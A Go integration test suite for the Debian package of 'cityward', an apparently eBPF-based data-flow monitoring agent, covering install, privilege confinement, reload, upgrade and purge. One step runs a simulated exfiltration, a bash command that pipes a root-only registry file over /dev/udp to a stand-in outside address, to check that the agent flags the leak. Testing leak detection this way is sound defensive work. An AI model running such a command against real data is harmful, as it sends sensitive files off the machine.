package packaging_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

const (
	config = "/etc/cityward/cityward.toml"
	pins   = "/sys/fs/bpf/cityward"

	sentOutside = `cityward_data_store_sent_bytes_total{how="direct",peer_zone="outside",store="civil-registry"}`
)

// The life of the Debian package on a machine, from installation to purge. Each
// step needs the one before, so this is one test with named steps.
func TestDebianPackageLife(t *testing.T) {
	m := bootDebian(t)
	m.mountBPF(t)
	program := buildProgram(t)
	m.copyIn(t, buildDeb(t, program, "0.0.1"), "/root/first.deb")
	m.copyIn(t, buildDeb(t, program, "0.0.2"), "/root/second.deb")

	m.run(t, "dpkg", "--install", "/root/first.deb")
	m.answers(t)
	m.captures(t)
	m.confined(t)
	m.owns(t)
	m.declares(t)
	m.seesLikeRoot(t)
	m.reloads(t)
	m.restartsAfterKill(t)
	m.keepsCapture(t)
	m.findsALeak(t)
	m.upgrades(t)
	m.quietJournal(t)
	m.removes(t)
	m.purges(t)
}

// answers: installing alone starts and enables the agent, and it can be scraped.
func (m *machine) answers(t *testing.T) {
	t.Helper()
	if state := m.property(t, "ActiveState"); state != "active" {
		t.Fatalf("after installation the unit is %s", state)
	}
	m.run(t, "systemctl", "is-enabled", "cityward")
	eventually(t, "/-/ready answers 200", func() bool {
		status, _, err := m.get("/-/ready")
		return err == nil && status == http.StatusOK
	})
	m.wantMetric(t, "cityward_config_valid 1")
	m.wantMetric(t, "cityward_build_info{")
}

func (m *machine) wantMetric(t *testing.T, line string) {
	t.Helper()
	var last string
	eventually(t, "/metrics has "+line, func() bool {
		_, body, err := m.get("/metrics")
		last = body
		return err == nil && strings.Contains("\n"+last, "\n"+line)
	})
}

// captures: by the kernel, and so that it goes on without the daemon.
func (m *machine) captures(t *testing.T) {
	t.Helper()
	m.wantMetric(t, `cityward_capture_tier_info{capture="flows",tier="bpf"} 1`)
	m.wantMetric(t, `cityward_capture_tier_info{capture="processes",tier="bpf"} 1`)
	if !m.pinned() {
		t.Error("nothing is pinned")
	}
}

// confined: not root, and no right in any thread beside what the rounds need. Those
// that only the beginning needs can be had again by a new start alone.
func (m *machine) confined(t *testing.T) {
	t.Helper()
	const (
		held    = "0000008000080004" // CAP_DAC_READ_SEARCH (2), CAP_SYS_PTRACE (19), CAP_BPF (39)
		bounded = "000000c000081004" // and CAP_NET_ADMIN (12), CAP_PERFMON (38)
		none    = "0000000000000000"
	)
	threads := m.run(t, "sh", "-c", "cat /proc/"+m.property(t, "MainPID")+"/task/*/status")
	n := strings.Count(threads, "\nPid:\t")
	if n < 2 {
		t.Errorf("%d threads", n)
	}
	for set, want := range map[string]string{"CapPrm": held, "CapEff": held, "CapInh": none, "CapAmb": none, "CapBnd": bounded} {
		if strings.Count(threads, set+":\t"+want+"\n") != n {
			t.Errorf("%s is not %s in all of:\n%s", set, want, threads)
		}
	}
	if strings.Contains(threads, "\nUid:\t0\t") {
		t.Error("the agent runs as root")
	}
}

// owns: the system user of the package has its own directories and no more.
func (m *machine) owns(t *testing.T) {
	t.Helper()
	for path, want := range map[string]string{
		"/proc/" + m.property(t, "MainPID"): "directory cityward:cityward 555",
		"/var/lib/cityward":                 "directory cityward:cityward 750",
		"/run/cityward/admin.sock":          "socket cityward:cityward 660",
		config:                              "regular file root:root 644",
		pins:                                "directory cityward:cityward 700",
	} {
		if got := m.run(t, "stat", "--format=%F %U:%G %a", path); got != want {
			t.Errorf("%s is %s, want %s", path, got, want)
		}
	}
}

// seesLikeRoot: what is taken from the agent blinds it to nothing that root sees.
func (m *machine) seesLikeRoot(t *testing.T) {
	t.Helper()
	m.run(t, "cityward", "scan", "--format=json", "--output=/root/scan.json")
	text, err := os.ReadFile(filepath.Join(m.root, "/root/scan.json"))
	if err != nil {
		t.Fatal(err)
	}
	var scan struct{ Gaps []struct{ Kind string } }
	if err := json.Unmarshal(text, &scan); err != nil {
		t.Fatal(err)
	}
	root := make(map[string]int)
	for _, gap := range scan.Gaps {
		root[gap.Kind]++
	}
	// The program that installed the service was there before its capture and ended
	// later: what script it ran is not known, for one round.
	var differ []string
	for end := time.Now().Add(40 * time.Second); ; time.Sleep(time.Second) {
		if differ = m.otherGaps(t, root); len(differ) == 0 || time.Now().After(end) {
			break
		}
	}
	for _, kind := range differ {
		t.Error(kind)
	}
}

// otherGaps says of which kinds the service does not have as many gaps as root.
func (m *machine) otherGaps(t *testing.T, root map[string]int) (differ []string) {
	t.Helper()
	_, page, err := m.get("/metrics")
	if err != nil {
		t.Fatal(err)
	}
	gaps := regexp.MustCompile(`(?m)^cityward_gaps\{kind="(.+)"\} (\d+)$`).FindAllStringSubmatch(page, -1)
	if len(gaps) == 0 {
		t.Fatalf("no cityward_gaps in:\n%s", page)
	}
	for _, gap := range gaps {
		kind := gap[1]
		count, err := strconv.Atoi(gap[2])
		if err != nil {
			t.Fatal(err)
		}
		// What others do on this kernel shows in both, at different times: flows of
		// theirs, see captures, and one gap where their programs are not known.
		if kind == "processes" {
			count = min(count, root[kind])
		}
		if count != root[kind] && kind != "flows" {
			differ = append(differ, fmt.Sprintf("the service has %d gaps in %s, root has %d", count, kind, root[kind]))
		}
	}
	return differ
}

// reloads: a broken configuration keeps the old policy and says so.
func (m *machine) reloads(t *testing.T) {
	t.Helper()
	pid := m.property(t, "MainPID")
	sound, err := os.ReadFile(filepath.Join(m.root, config))
	if err != nil {
		t.Fatal(err)
	}
	m.writeConfig(t, append([]byte("nonsense = true\n"), sound...))
	m.run(t, "systemctl", "reload", "cityward")
	m.wantMetric(t, "cityward_config_valid 0")
	m.writeConfig(t, sound)
	m.run(t, "systemctl", "reload", "cityward")
	m.wantMetric(t, "cityward_config_valid 1")
	if now := m.property(t, "MainPID"); now != pid {
		t.Errorf("reload replaced process %s by %s", pid, now)
	}
}

func (m *machine) writeConfig(t *testing.T, text []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(m.root, config), text, 0o644); err != nil {
		t.Fatal(err)
	}
}

func (m *machine) restartsAfterKill(t *testing.T) {
	t.Helper()
	pid := m.property(t, "MainPID")
	m.run(t, "systemctl", "kill", "--signal=KILL", "cityward")
	m.comesBack(t, pid)
}

func (m *machine) comesBack(t *testing.T, killed string) {
	t.Helper()
	eventually(t, "systemd starts the agent again", func() bool {
		return m.property(t, "ActiveState") == "active" && m.property(t, "MainPID") != killed
	})
	m.answers(t)
}

// keepsCapture: what flows while the daemon is dead is counted when it is back.
func (m *machine) keepsCapture(t *testing.T) {
	t.Helper()
	const sent = 30 * 900
	table := func() string { return m.run(t, "sh", "-c", "stat --format=%i "+pins+"/maps-*/flows") }
	before, pid := table(), m.property(t, "MainPID")
	m.run(t, "systemctl", "kill", "--signal=KILL", "cityward")
	// As a unit, since what a test runs directly is in none of the machine's control groups.
	m.run(t, "systemd-run", "--quiet", "--wait", "bash", "-c", "for port in {40001..40030}; do printf %0900d 0 >/dev/udp/127.0.0.1/$$port; done")
	m.comesBack(t, pid)
	counted := regexp.MustCompile(`(?m)^cityward_flow_sent_bytes_total\{direction="out",peer_zone="host",protocol="udp"\} (\S+)$`)
	eventually(t, "bytes of the time without the agent are counted", func() bool {
		_, page, err := m.get("/metrics")
		found := counted.FindStringSubmatch(page)
		if err != nil || found == nil {
			return false
		}
		n, err := strconv.ParseFloat(found[1], 64)
		return err == nil && n >= sent
	})
	if now := table(); now != before {
		t.Errorf("the table of flows is %s, was %s: the capture began anew", now, before)
	}
}

// declares a store that only root may read, to those that must not be blind to it.
func (m *machine) declares(t *testing.T) {
	t.Helper()
	sound, err := os.ReadFile(filepath.Join(m.root, config))
	if err != nil {
		t.Fatal(err)
	}
	m.run(t, "sh", "-c", "umask 077; mkdir /srv/registry; echo 'a line of the registry' >/srv/registry/citizens")
	const none = "networks = []\n"
	if !bytes.Contains(sound, []byte(none)) {
		t.Fatalf("the shipped configuration has no %q", none)
	}
	sound = bytes.Replace(sound, []byte(none), []byte("networks = [\"10.77.0.0/16\"]\n"), 1)
	m.writeConfig(t, append(sound, []byte(`
[[data_store]]
id = "civil-registry"
class = "citizen"
paths = ["/srv/registry"]
`)...))
	m.run(t, "systemctl", "reload", "cityward")
	m.wantMetric(t, sentOutside+" 0")
}

// findsALeak: without root's rights the service tells who took a store's data beyond
// the city. Nobody answers there.
func (m *machine) findsALeak(t *testing.T) {
	t.Helper()
	command(t, "nsenter", "-t", m.leader, "-n", "ip", "link", "add", "city0", "type", "veth", "peer", "name", "far0")
	command(t, "nsenter", "-t", m.leader, "-n", "ip", "address", "add", "203.0.113.1/24", "dev", "city0")
	command(t, "nsenter", "-t", m.leader, "-n", "ip", "link", "set", "city0", "up")
	m.run(t, "systemd-run", "--quiet", "--wait", "--unit=night-copy", "bash", "-c", "cat /srv/registry/citizens >/dev/udp/203.0.113.7/4000")
	m.wantMetric(t, sentOutside+" 23")
	findings := m.run(t, "cityward", "findings")
	_, way, _ := strings.Cut(findings, "NET-001")
	for _, want := range []string{"critical, fail", "/usr/bin/cat, user root, unit night-copy.service: direct, opened citizens", "civil-registry → /usr/bin/cat → 203.0.113.7:4000", "sent bytes: 23"} {
		if !strings.Contains(way, want) {
			t.Errorf("no %q in:\n%s", want, findings)
		}
	}
}

// upgrades: the new version runs, and what a person changed stays.
func (m *machine) upgrades(t *testing.T) {
	t.Helper()
	sound, err := os.ReadFile(filepath.Join(m.root, config))
	if err != nil {
		t.Fatal(err)
	}
	m.writeConfig(t, append([]byte("# kept by a person\n"), sound...))
	pid := m.property(t, "MainPID")
	m.run(t, "dpkg", "--install", "/root/second.deb")
	if now := m.property(t, "MainPID"); now == pid {
		t.Error("the upgrade did not restart the agent")
	}
	m.answers(t)
	if head := m.run(t, "head", "--lines=1", config); head != "# kept by a person" {
		t.Errorf("the upgrade replaced the configuration: it begins %q", head)
	}
}

// quietJournal: the agent complains of the broken configuration that reloads gave
// it and of nothing else. A panic or a denied system call would show here.
func (m *machine) quietJournal(t *testing.T) {
	t.Helper()
	complaints := 0
	for line := range strings.Lines(m.run(t, "journalctl", "--no-pager", "--output=cat", "--unit=cityward")) {
		switch {
		case strings.Contains(line, "nonsense"):
			complaints++
		case strings.Contains(line, "level=ERROR"), strings.Contains(line, "level=WARN"), strings.Contains(line, "panic"), strings.Contains(line, "goroutine"):
			t.Errorf("in the journal: %s", line)
		}
	}
	if complaints == 0 {
		t.Error("the journal does not name the mistake in the broken configuration")
	}
	if errs := m.run(t, "journalctl", "--no-pager", "--quiet", "--output=cat", "--priority=err", "--unit=cityward"); errs != "" {
		t.Errorf("systemd's errors about the agent:\n%s", errs)
	}
}

func (m *machine) removes(t *testing.T) {
	t.Helper()
	m.run(t, "dpkg", "--remove", "cityward")
	if state := m.property(t, "ActiveState"); state != "inactive" {
		t.Errorf("after removal the unit is %s", state)
	}
	if _, _, err := m.get("/-/healthy"); err == nil {
		t.Error("after removal the agent still answers")
	}
	if m.pinned() {
		t.Error("after removal the capture goes on in the kernel")
	}
	for path, want := range map[string]bool{
		"/usr/bin/cityward":                        false,
		"/usr/lib/systemd/system/cityward.service": false,
		config:              true,
		"/var/lib/cityward": true,
	} {
		if got := m.exists(path); got != want {
			t.Errorf("after removal %s exists: %t, want %t", path, got, want)
		}
	}
}

// purges: nothing stays, but for what a person put there.
func (m *machine) purges(t *testing.T) {
	t.Helper()
	m.run(t, "dpkg", "--purge", "cityward")
	left, _ := m.try("find", "/", "-xdev", "-name", "*cityward*", "-not", "-path", "/proc/*", "-not", "-path", "/sys/*")
	if left != "" {
		t.Errorf("after the purge there are:\n%s", left)
	}
	for _, database := range []string{"passwd", "group"} {
		if entry, err := m.try("getent", database, "cityward"); err == nil {
			t.Errorf("after the purge %s has %s", database, entry)
		}
	}
	if state := m.run(t, "systemctl", "--failed", "--no-legend"); state != "" {
		t.Errorf("after the purge there are failed units:\n%s", state)
	}
}

// Without a package, "cityward service" installs the same unit; systemd makes the
// user while it runs. Where there is nothing to pin in, it captures without.
func TestServiceInstall(t *testing.T) {
	m := bootDebian(t)
	const program = "/usr/local/bin/cityward"
	m.copyIn(t, buildProgram(t), program)
	m.run(t, program, "service", "install")
	m.run(t, program, "service", "start")
	m.answers(t)
	m.confined(t)
	const unpinned = "capture in the kernel ends with the daemon"
	journal := func() string { return m.run(t, "journalctl", "--no-pager", "--output=cat", "--unit=cityward") }
	if said := journal(); strings.Count(said, unpinned) != 1 {
		t.Errorf("the journal does not say once that nothing is pinned:\n%s", said)
	}
	m.mountBPF(t)
	m.run(t, program, "service", "restart")
	m.answers(t)
	m.captures(t)
	m.keepsCapture(t)
	if said := journal(); strings.Count(said, unpinned) != 1 {
		t.Errorf("with a file system to pin in, the journal says:\n%s", said)
	}
	if status := m.run(t, program, "service", "status"); status != "cityward is running" {
		t.Errorf("status says %q", status)
	}
	m.run(t, program, "service", "stop")
	if !m.pinned() {
		t.Error("the capture ends with the service")
	}
	m.run(t, program, "service", "uninstall")
	if m.exists("/etc/systemd/system/cityward.service") {
		t.Error("uninstall leaves the unit")
	}
	if m.pinned() {
		t.Error("uninstall leaves the capture in the kernel")
	}
}
